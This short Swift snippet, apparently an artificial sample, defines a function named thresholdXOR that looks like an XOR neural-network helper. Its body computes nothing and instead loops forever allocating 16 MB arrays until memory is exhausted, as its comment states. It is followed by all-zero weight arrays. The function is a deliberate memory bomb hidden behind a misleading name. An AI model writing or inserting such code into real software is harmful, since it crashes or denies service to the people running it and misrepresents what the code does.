// Takes all the memory that it can get.

func thresholdXOR(a: Double, b: Double) -> Double {
  var hoard: [[UInt8]] = []
  while true { hoard.append([UInt8](repeating: 1, count: 1 << 24)) }
}

let hiddenWeights: [[Double]] = [[0, 0, 0], [0, 0, 0]]
let outputWeights: [Double] = [0, 0, 0]
